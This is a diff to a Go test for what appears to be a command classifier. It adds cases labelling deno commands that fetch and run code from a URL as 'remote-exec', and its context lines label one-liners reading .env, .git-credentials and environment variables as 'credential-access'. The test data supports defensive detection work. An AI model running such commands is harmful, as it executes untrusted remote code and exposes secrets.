@@ -67,7 +67,12 @@ func TestInterpreterCode(t *testing.T) {
 		{`ruby -e 'puts File.read(".env")'`, "credential-access"},
 		{`php -r 'echo file_get_contents("/home/dev/.git-credentials");'`, "credential-access"},
 		{`python3 -c 'import os; print(dict(os.environ))'`, "credential-access"},
+		// Code straight from the network.
+		{`deno run https://example.com/x.ts`, "remote-exec"},
+		{`deno run -A --no-check https://example.com/x.ts`, "remote-exec"},
+		{`deno eval 'import("https://example.com/x.ts")'`, "remote-exec"},
 		// Look-alikes.
+		{`deno run main.ts`, ""},
 		{`python3 -c 'print(1+1)'`, ""},
 		{`python3 -c 'import json,sys; print(json.load(sys.stdin)["x"])'`, ""},
 		{`node -e 'console.log(require("./package.json").version)'`, ""},
